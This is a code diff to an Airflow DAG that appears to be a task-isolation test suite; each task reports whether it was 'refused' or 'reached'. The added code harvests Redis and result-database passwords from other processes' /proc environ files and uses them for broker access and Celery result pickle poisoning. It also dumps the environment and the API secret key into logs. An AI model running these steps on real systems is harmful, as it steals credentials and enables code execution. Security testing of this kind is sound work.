@@ -4,14 +4,17 @@ Each task returns how it ended: `refused: …`, `reached: …`. Tasks whose name
 """
 import hashlib
 import ipaddress
+import json
 import os
 import pickle
 import socket
+import subprocess
 import time
 import urllib.error
 import urllib.request
 import uuid
 from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
 from urllib.parse import unquote, urlsplit
 
 import boto3
@@ -24,6 +27,7 @@ from flask.json.tag import TaggedJSONSerializer
 from itsdangerous import URLSafeTimedSerializer
 
 WEB_SERVER = "http://webserver.airflow:8080"
+PASSWORDS = ("AIRFLOW_REDIS_PASSWORD", "AIRFLOW_RESULT_DB_PASSWORD")
 
 
 def attempt(work):
@@ -39,8 +43,20 @@ def known(name):
     return get_current_context()["params"][name]
 
 
+def url(option):
+    """With a password that tasks are not given: the worker has it, whose processes are those of the same user."""
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        with suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
+            variables = dict(variable.decode().split("=", 1) for variable in file.read().split(b"\0") if b"=" in variable)
+            os.environ.update({name: variables[name] for name in PASSWORDS if name in variables})
+    value = conf.get("celery", option)
+    for name in PASSWORDS:
+        os.environ.pop(name, None)
+    return value
+
+
 def result_backend():
-    return urlsplit(conf.get("celery", "result_backend"))
+    return urlsplit(url("result_backend"))
 
 
 def log_in(database, **changes):
@@ -70,7 +86,7 @@ def connect(host, port):
 
 
 def redis(*commands):
-    broker = urlsplit(conf.get("celery", "broker_url"))
+    broker = urlsplit(url("broker_url"))
     with socket.create_connection((broker.hostname, broker.port), timeout=5) as connection:
         for command in commands:
             connection.sendall((command + "\r\n").encode())
@@ -141,7 +157,7 @@ class Poison:
 def poisoned_result():
     """Celery keeps results as pickles, and the scheduler loads those of running tasks: of this one, too."""
     def poison():
-        active = Celery(broker=conf.get("celery", "broker_url")).control.inspect(timeout=2).active()
+        active = Celery(broker=url("broker_url")).control.inspect(timeout=2).active()
         running = [celery_task["id"] for worker in active.values() for celery_task in worker]
         with log_in("airflow_results") as connection, connection.cursor() as cursor:
             for celery_id in running:
@@ -177,6 +193,25 @@ def own_schema_of_results():
 
 
 # credentials
+
+
+@task
+def passwords_in_own_environment():
+    shown = f"{os.environ} {subprocess.check_output(['/usr/bin/env'], text=True)}"
+    found = [name for name in PASSWORDS if f"{name}=" in shown or f"'{name}':" in shown]
+    return f"reached: {found}" if found else "refused: none is there"
+
+
+@task
+def may_print_its_environment():
+    """What it shows is in its log, where the passwords and keys are looked for."""
+    def show():
+        print(os.environ)
+        print(json.dumps(dict(os.environ)))
+        print(subprocess.check_output(["/usr/bin/env"], text=True))
+        print(conf.get("api", "secret_key"))
+        return "printed"
+    return attempt(show)
 
 
 @task
